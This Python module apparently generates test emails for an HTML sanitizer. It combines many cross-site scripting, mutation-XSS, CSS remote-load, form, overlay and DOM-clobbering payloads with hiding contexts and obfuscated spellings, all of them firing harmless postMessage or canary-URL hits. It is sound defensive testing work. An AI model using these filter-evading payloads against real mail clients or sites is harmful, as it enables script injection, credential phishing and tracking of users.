"""S-05: hostile HTML mails by a small grammar. Attacks (by family) × hiding places × spellings.

`{js}` is script that tells the outermost page the number of its mail, `{url}` an address at which
nobody may ask; its path names the mail, too. Whoever finds a new trick adds one line here.
"""
# ruff: noqa: E501

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

ATTACKS: dict[str, list[str]] = {
    "script": [
        "<script>{js}</script>",
        "<script src='{url}.js'></script>",
        "<script type=module src={url}.js></script>",
        "<script/x>{js}</script\t\n bar>",
        "<script>/*</script><script>*/{js}</script>",
        "<svg><script>{js}</script></svg>",
        "<svg><script href='{url}.js'/></svg>",
        "<svg><script>&#116;op.postMessage({number},'*')</script></svg>",
        "<script>{js}",
    ],
    "handler": [
        "<img src=x onerror={js}>",
        "<img src=x onerror=\"{js}\"//>",
        "<img/src=`x`/onerror={js}>",
        "<body onload={js}>",
        "<svg onload={js}></svg>",
        "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
        "<svg><set onbegin={js} attributeName=x></svg>",
        "<details open ontoggle={js}><summary>x</summary></details>",
        "<input autofocus onfocus={js}>",
        "<textarea autofocus onfocus={js}></textarea>",
        "<a href=# id=x tabindex=1 autofocus onfocus={js}>x</a>",
        "<video><source onerror={js}></video>",
        "<video src=x onerror={js}></video>",
        "<audio src=x onerror={js}></audio>",
        "<iframe onload={js}></iframe>",
        "<object data=x: onerror={js}></object>",
        "<style onload={js}></style>",
        "<link rel=stylesheet href={url}.css onload={js}>",
        "<style>@keyframes k{{}}</style><p style='animation:k 1ms' onanimationstart={js}>x</p>",
        "<marquee onstart={js}>x</marquee>",
        "<img srcset=x onerror={js}>",
        "<picture><source srcset=x><img src=x onerror={js}></picture>",
    ],
    "click": [
        "<a href=\"javascript:{js}\">x</a>",
        "<a href=\"JaVaScRiPt:{js}\">x</a>",
        "<a href=\"java&#10;script:{js}\">x</a>",
        "<a href=\"java&Tab;script&colon;{js}\">x</a>",
        "<a href=\"&#1;javascript:{js}\">x</a>",
        "<a href=\" &#32;&#x0A;javascript:{js}\">x</a>",
        "<a href=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58{js}>x</a>",
        "<a href=javascript://%0a{js}>x</a>",
        "<svg><a xlink:href=\"javascript:{js}\"><text y=20>x</text></a></svg>",
        "<svg><a><animate attributeName=href values=javascript:{js} /><text y=20>x</text></a></svg>",
        "<map name=m><area shape=default href=\"javascript:{js}\"></map><img usemap=#m src=x>",
        "<form action=\"javascript:{js}\"><button>x</button></form>",
        "<form><button formaction=\"javascript:{js}\">x</button></form>",
        "<form><input type=submit formaction=\"javascript:{js}\"></form>",
        "<form id=f></form><button form=f formaction=\"javascript:{js}\">x</button>",
        "<a href=# onclick={js}>x</a>",
        "<p onclick={js} style='width:9999px;height:9999px'>x</p>",
    ],
    "form": [
        "<form action={url}.cgi><input name=secret value=1><button>Sign in</button></form>",
        "<form method=post action={url}.cgi><input type=image src=x></form>",
        "<form id=g action={url}.cgi></form><input form=g type=submit>",
        "<form><button formaction={url}.cgi>x</button></form>",
        "<form action={url}.cgi><select name=a><option>1</select><input type=submit></form>",
    ],
    "document": [
        "<iframe src=\"javascript:{js}\"></iframe>",
        "<iframe srcdoc=\"<script>{js}</script>\"></iframe>",
        "<iframe srcdoc=\"&lt;img src=x onerror={js}&gt;\"></iframe>",
        "<iframe src='{url}.html'></iframe>",
        "<iframe src=\"data:text/html,<script>{js}</script>\"></iframe>",
        "<object data=\"{url}.html\"></object>",
        "<object data=\"data:text/html,<script>{js}</script>\"></object>",
        "<embed src=\"{url}.html\">",
        "<embed src=\"javascript:{js}\">",
        "<frameset><frame src='{url}.html'></frameset>",
        "<frameset onload={js}></frameset>",
        "<portal src='{url}.html'></portal><fencedframe src='{url}.html'></fencedframe>"
        "<iframe src='{url}.html'></iframe>",
    ],
    "refresh": [
        "<meta http-equiv=refresh content='0;url={url}.html'>",
        "<meta http-equiv=refresh content='0;{url}.html'>",
        "<META HTTP-EQUIV=\"Refresh\" CONTENT=\"0; URL='{url}.html'\">",
        "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>{js}</script>\">"
        "<script>{js}</script>",
    ],
    "base": [
        "<base href='{url}/'><img src=a.png>",
        "<base href='{url}/'><script src=a.js></script>",
        "<base target=_top href='{url}/'><link rel=stylesheet href=a.css>",
        "<base href='{url}/'><iframe src=a.html></iframe>",
    ],
    "link": [
        "<link rel=stylesheet href={url}.css>",
        "<link rel=preload as=image href={url}.png>",
        "<link rel=prefetch href={url}.html>",
        "<link rel=modulepreload href={url}.js>",
        "<link rel=icon href={url}.ico><link rel=preload as=style href={url}.css>",
        "<link rel='alternate stylesheet' title=a href={url}.css>",
        "<link rel=dns-prefetch href={url}><link rel=preconnect href={url}>"
        "<link rel=preload as=fetch crossorigin href={url}.json>",
        "<link rel=manifest href={url}.json><link rel=stylesheet media=all href={url}.css>",
    ],
    "css": [
        "<style>@import url({url}.css);</style>",
        "<style>@import '{url}.css';</style>",
        "<style>@\\69mport \"{url}.css\";</style>",
        "<style>p{{background:url({url}.png)}}</style><p>x",
        "<style>p{{list-style:url({url}.png);display:list-item}}</style><p>x",
        "<style>p::before{{content:url({url}.png)}}</style><p>x",
        "<style>@font-face{{font-family:f;src:url({url}.woff)}}p{{font-family:f}}</style><p>x",
        "<style>@font-face{{font-family:g;src:url({url}.woff);unicode-range:U+0061}}"
        "p{{font-family:g}}</style><p>a",
        "<style>a[title^='s']{{background:url({url}.png)}}</style><a title=secret>x</a>",
        "<style>p{{background:image-set('{url}.png' 1x)}}</style><p>x",
        "<style>p{{border:9px solid;border-image:url({url}.png) 9}}</style><p>x",
        "<style>p{{mask-image:url({url}.png);-webkit-mask:url({url}.png)}}</style><p>x",
        "<style>:root{{--u:url({url}.png)}}p{{background:var(--u)}}</style><p>x",
        "<style>@namespace u url({url});@media all{{p{{background:url({url}.png)}}}}</style><p>x",
        "<style></style ><style>p{{background:u\\rl({url}.png)}}p{{background:url({url}.png)}}"
        "</style><p>x",
        "<p style='background:url({url}.png)'>x",
        "<p style='background-image:url(\"{url}.png\")'>x",
        "<p style='background:\\75rl({url}.png)'>x",
        "<p style='background:/**/url({url}.png)'>x",
        "<p style='background-color:red;background:url({url}.png)'>x",
        "<p style='border:1px solid;border-image:url({url}.png) 1'>x",
        "<p style='display:list-item;list-style-image:url({url}.png)'>x",
        "<p style='font-family:f;background:url({url}.png)!important'>x",
        "<p style='--a:url({url}.png);background:var(--a)'>x",
        "<p style='width:10px;shape-outside:url({url}.png);float:left'>x",
        "<p style='width:1px;}}p{{background:url({url}.png)'>x<p style='background:url({url}.png)'>y",
        "<p style=\"color:red;background:url('{url}.png')\">x",
        "<ul style='list-style:url({url}.png)'><li>x</ul>",
        "<svg><style>p{{background:url({url}.png)}}</style></svg><p>x",
        "<math><style><!--</style><p style='background:url({url}.png)'>x--></math>",
    ],
    "picture": [
        "<img src={url}.png>",
        "<img srcset='{url}.png 1x'>",
        "<img src=x srcset='{url}.png 1x, {url}.webp 2x' sizes=100vw>",
        "<picture><source srcset={url}.png><img></picture>",
        "<picture><source type=image/png srcset='{url}.png'><img src=x></picture>",
        "<video poster={url}.png></video>",
        "<video src={url}.mp4 autoplay></video>",
        "<video><source src={url}.mp4></video>",
        "<audio src={url}.mp3 autoplay></audio>",
        "<video src=x><track default src={url}.vtt></video><video poster={url}.png></video>",
        "<input type=image src={url}.png>",
        "<body background={url}.png>",
        "<table background={url}.png><tr><td>x</table>",
        "<table><tr><td background={url}.png>x</table>",
        "<svg><image href={url}.png /></svg>",
        "<svg><image xlink:href='{url}.png' /></svg>",
        "<svg><filter id=f><feImage href={url}.png /></filter><rect filter=url(#f) width=9 height=9 />"
        "<image href={url}.png /></svg>",
        "<svg><use href='{url}.svg#a' /><image href={url}.png /></svg>",
        "<image src={url}.png>",
        "<img src='&#104;ttp{tail}.png'>",
        "<img src=' {url}.png '>",
        "<img src=\"//{place}.png\">",
        "<img src='\\\\{place}.png'>",
        "<img src='/\t/{place}.png'>",
        "<img src='http:/\\{place}.png'>",
        "<img src=x lowsrc={url}.png dynsrc={url}.png longdesc={url}><img src={url}.gif>",
        "<object type=image/png data={url}.png></object>",
        "<img src=cid:nothing><img src='cid:{url}.png'><img alt='\"><img src={url}.png>' src={url}.png>",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>\">"
        "<img src={url}.png>",
    ],
    "mutation": [
        "<noscript><p title=\"</noscript><img src=x onerror={js}>\"></noscript>",
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title=\"--&gt;&lt;img src=1 onerror={js}&gt;\"><img src=x onerror={js}>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
        "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">",
        "<svg><p><style><g title=\"</style><img src=x onerror={js}>\">",
        "<math><p><style><img src=x onerror={js}></style></p></math>",
        "<template><img src=x onerror={js}></template><svg><desc><img src=x onerror={js}></svg>",
        "<select><template><img src=x onerror={js}></template></select><img src=x onerror={js}>",
        "<select><style></select><img src=x onerror={js}></style></select><img src=x onerror={js}>",
        "<table><td><svg><title><img src=x onerror={js}></title></svg></table>",
        "<table><a href=1><img src=x onerror={js}><tr><td></a></table>",
        "<svg><foreignObject><math><annotation-xml encoding=text/html><img src=x onerror={js}>",
        "<math><annotation-xml encoding=application/xhtml+xml><img src=x onerror={js}></math>",
        "<xmp><p title='</xmp><img src=x onerror={js}>'>",
        "<iframe><p title='</iframe><img src=x onerror={js}>'>",
        "<noembed><p title='</noembed><img src=x onerror={js}>'>",
        "<title><p title='</title><img src=x onerror={js}>'>",
        "<textarea><p title='</textarea><img src=x onerror={js}>'>",
        "<style><p title='</style><img src=x onerror={js}>'>",
        "<!--><img src=x onerror={js}>-->",
        "<!--a--!><img src=x onerror={js}>-->",
        "<!-- --!><img src=x onerror={js}><!-- -->",
        "<![CDATA[><img src=x onerror={js}>]]>",
        "<svg><![CDATA[<img src=x]]><desc><img src=x onerror={js}></svg>",
        "<!--[if gte mso 9]><img src=x><![endif]--><!--[if !mso]><!--><img src=x onerror={js}>",
        "<?xml version='1.0'?><img src=x onerror={js}>",
        "<!DOCTYPE x [<!ENTITY a '<img src=x>'>]><img src=x onerror={js}>",
        "<b><i><p></b><a><div><a><img src=x onerror={js}></b></i>",
        "<img alt='`><img src=x onerror={js}>`' src=x onerror={js}>",
        "<a title=\"x' onmouseover='{js}\"></a><img title='\" onerror=\"{js}' src=x onerror={js}>",
        "<p title='&quot;&gt;&lt;img src=x onerror={js}&gt;'>x</p><img src=x onerror={js}>",
        "<font color='\"><img src=x onerror={js}>'>x</font><img src=x onerror={js}>",
    ],
    "clobbering": [
        "<img name=body><img id=head><form id=defaultView><input name=attributes></form>"
        "<img src=x onerror={js}>",
        "<a id=config></a><a id=config name=url href={url}>x</a><img src={url}.png>",
        "<form name=getElementById></form><p id=desk-rows class=toast role=dialog>x</p>"
        "<img src=x onerror={js}>",
    ],
    "overlay": [
        "<p style='position:fixed;inset:0;z-index:99999;background:#fff url({url}.png)'>Sign in</p>",
        "<a href='{url}.html' style='position:fixed;top:0;left:0;width:100%;height:100%'>x</a>"
        "<img src={url}.png>",
        "<style>*{{position:fixed!important;inset:0}}body{{background:url({url}.png)}}</style>",
        "<dialog open style='position:fixed;inset:0'>x</dialog><img src={url}.png>",
        "<div popover id=p style='position:fixed;display:block'>x</div><img src={url}.png>",
        "<a href='{url}.html' style='display:block;margin:-9999px;padding:9999px;opacity:0'>x</a>"
        "<p style='background:url({url}.png)'>",
        "<p style='position:sticky;top:0;transform:scale(99);filter:url({url}.svg#f)'>x</p>",
    ],
    "quotation": [
        "<div style='display:none;background:url({url}.png)'>hidden</div><img src={url}.png>",
        "<blockquote type=cite cite={url} style='font-size:0'>x</blockquote><img src={url}.png>",
        "<div class=gmail_quote><script>{js}</script></div>",
        "<q cite='javascript:{js}'>x</q><del cite={url}>y</del><img src=x onerror={js}>",
    ],
    "component": [
        "<div><template shadowrootmode=open><img src=x onerror={js}></template></div>",
        "<div><template shadowrootmode=open><style>@import '{url}.css'</style></template></div>",
        "<x-a is=x style='animation:k' onfocus={js} autofocus tabindex=1>x</x-a>",
        "<a href={url}.html ping={url}.ping rel=opener target=_top>x</a><img src={url}.png>",
        "<a href={url}.html attributionsrc={url}.json>x</a><img attributionsrc src={url}.png>",
        "<img src=x loading=lazy fetchpriority=high importance=high onerror={js}>",
        "<button popovertarget=x onfocus={js} autofocus>x</button>",
        "<div contenteditable autofocus onfocus={js}>x</div>",
    ],
}  # fmt: skip

HIDING: dict[str, str] = {
    "nothing": "{}",
    "a broken attribute": '<p title="it\'s</p>">{}',
    "ends of raw text": "</title></style></textarea></xmp></noscript></iframe></script>{}",
    "mathematics": "<math><mtext><mglyph><malignmark></mglyph>{}</mtext></math>",
    "a drawing": "<svg><desc></desc><foreignObject>{}</foreignObject></svg>",
    "a table": "<table><tr>{}<td>x</td></tr></table>",
    "a cell of tables": "<table><tbody><tr><td><table><caption>{}</caption></table></td></tr></table>",
    "a choice": "<select><option>x</option></select>{}",
    "a comment": "<!--[if mso]>x<![endif]--><!-- a -- b --!>{}",
    "a declaration": "<?xml version='1.0'?><![CDATA[x]]>{}",
    "a quotation": "<blockquote type='cite'><div class='gmail_quote'>{}</div></blockquote>",
    "wrongly nested words": "<b><a href=x><p></b><i>{}</a></p></i>",
    "three hundred boxes": "<div>" * 300 + "{}" + "</div>" * 300,
    "six hundred boxes": "<div>" * 600 + "{}" + "</div>" * 600,
    "a huge attribute": "<p title='" + 'a"&lt;' * 9_000 + "'>{}</p>",
}

_NAME = re.compile(r"(?<=<)/?[a-z][a-z0-9]*|(?<=[\s/])[a-z:-]+(?==)", re.I)


_HEAVY = {"three hundred boxes", "six hundred boxes", "a huge attribute"}  # for every tenth


def _mixed(attack: str) -> str:
    return _NAME.sub(
        lambda name: "".join(
            sign.upper() if at % 2 else sign.lower() for at, sign in enumerate(name[0])
        ),
        attack,
    )


def _with_nothing_between(attack: str) -> str:
    return attack.replace("<", "\x00<\ufeff<", 1).replace(" on", "\x0bon").replace("=", " =\n", 1)


SPELLINGS: list[Callable[[str], str]] = [
    lambda attack: attack,
    _mixed,
    lambda attack: attack.replace(" ", "\n", 1) + "\x00",
    lambda attack: "\ufeff\u202e+ADw-script+AD4-\x80\xff" + attack,
    lambda attack: re.sub(r"(<[a-z]+) ", r"\1/", attack, count=3),
    _with_nothing_between,
]


@dataclass(frozen=True, slots=True)
class HostileMail:
    """One mail; `plain`: as the attack is written, neither hidden nor spelt oddly."""

    number: int
    family: str
    html: str
    plain: bool


def hostile_mails(canary: str) -> Iterator[HostileMail]:
    """Yield every attack in every hiding place, its spelling another each time."""
    number = 0
    for at, (place, hiding) in enumerate(HIDING.items()):
        for nth, (family, attack) in enumerate(
            (family, attack) for family, attacks in ATTACKS.items() for attack in attacks
        ):
            if place in _HEAVY and nth % 10:
                continue
            url = f"{canary}/hit/{number}/x"
            written = attack.format(
                js=f"top.postMessage({number},'*')",
                number=number,
                url=url,
                tail=url.removeprefix("http"),
                place=url.removeprefix("http://"),
            )
            spelt = SPELLINGS[(at + nth) % len(SPELLINGS) if at else 0](written)
            yield HostileMail(number, family, hiding.replace("{}", spelt), at == 0)
            number += 1
